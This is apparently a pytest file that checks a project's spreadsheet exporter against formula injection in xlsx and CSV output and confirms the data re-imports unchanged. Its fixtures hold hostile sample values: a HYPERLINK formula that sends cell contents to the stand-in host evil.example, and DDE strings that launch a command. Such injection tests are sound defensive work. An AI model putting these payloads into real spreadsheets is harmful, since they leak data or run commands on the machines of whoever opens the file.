"""Spreadsheet formula injection: an exported text cell is never a formula, in .xlsx or .csv, and the exported
file still re-imports unchanged (the apostrophe CSV adds is removed again, a real leading '-' or '+' is kept)."""

import csv
import io
import zipfile

import openpyxl
import pytest

from hardtech.catalogue.models import Achievement, Organisation
from hardtech.spreadsheets.cells import FORMULA_START, csv_cell, unquote
from hardtech.spreadsheets.exporter import export_file
from hardtech.spreadsheets.importer import import_file

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(university):
    """Records whose text starts like a formula, and legitimate text starting with '-', '+' or an apostrophe."""
    org = Organisation.objects.create(name=DDE, kind="enterprise")
    first = Achievement.objects.create(
        title=HYPERLINK,
        field="new_materials",
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        subfield="-5",  # a negative number kept as text
        keywords=["+1", "#N/A"],
        completers=["'=已加引号", "''两个引号"],
        contact_name="=1+1",
        contact_phone="+86 29 8888 0000",
        source="-2+3+cmd|' /C calc'!A0",
        status="published",
    )
    first.organisations.add(university, org)
    second = Achievement.objects.create(
        title="-40℃ 低温锂离子电池", field="new_energy", summary="-", contact_name="'普通引号"
    )
    second.organisations.add(university)
    return first


FIELDS = ["title", "summary", "subfield", "keywords", "completers", "contact_name", "contact_phone", "source"]


def _state() -> list[tuple]:
    return [
        (*(getattr(a, f) for f in FIELDS), sorted(o.name for o in a.organisations.all()))
        for a in Achievement.objects.order_by("pk")
    ]


def test_xlsx_export_writes_text_cells_never_formulas(hostile, tmp_path):
    path = tmp_path / "a.xlsx"
    export_file("achievements", path)
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type in ("s", "n") for cell in cells)
    by_value = {cell.value: cell for cell in cells}
    title, contact = by_value[HYPERLINK], by_value["=1+1"]
    assert title.data_type == contact.data_type == "s"
    # Excel's own mark for text typed with a leading apostrophe: still text after the cell is edited.
    assert title.quotePrefix and contact.quotePrefix and by_value["+86 29 8888 0000"].quotePrefix
    assert by_value["+1、#N/A"].data_type == "s"


@pytest.mark.parametrize("kind", ["achievements", "organisations"])
def test_csv_export_quotes_every_cell_that_starts_like_a_formula(hostile, tmp_path, kind):
    path = tmp_path / f"{kind}.csv"
    export_file(kind, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_START]
    assert f"'{DDE}" in cells or f"'{DDE}、西安测试大学" in cells or f"西安测试大学、{DDE}" in cells


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "jsonl"])
def test_hostile_and_leading_sign_text_round_trips(hostile, tmp_path, fmt):
    path = tmp_path / f"a.{fmt}"
    before = _state()
    export_file("achievements", path)
    report = import_file("achievements", path)
    assert report.ok, report.lines()
    assert (report.created, report.changed, report.unchanged) == (0, 0, 2)
    assert _state() == before


@pytest.mark.parametrize(
    "text", ["=1+1", "-5", "+86", "@x", "\tx", "'=x", "''x", "'x", "'", "", "普通", "a=b", "''", "'+"]
)
def test_csv_quoting_is_undone_exactly(text):
    assert unquote(csv_cell(text)) == text


def test_organisation_names_round_trip_through_csv(hostile, tmp_path):
    path = tmp_path / "o.csv"
    export_file("organisations", path)
    report = import_file("organisations", path)
    assert report.ok and report.created == 0
    assert Organisation.objects.filter(name=DDE).count() == 1
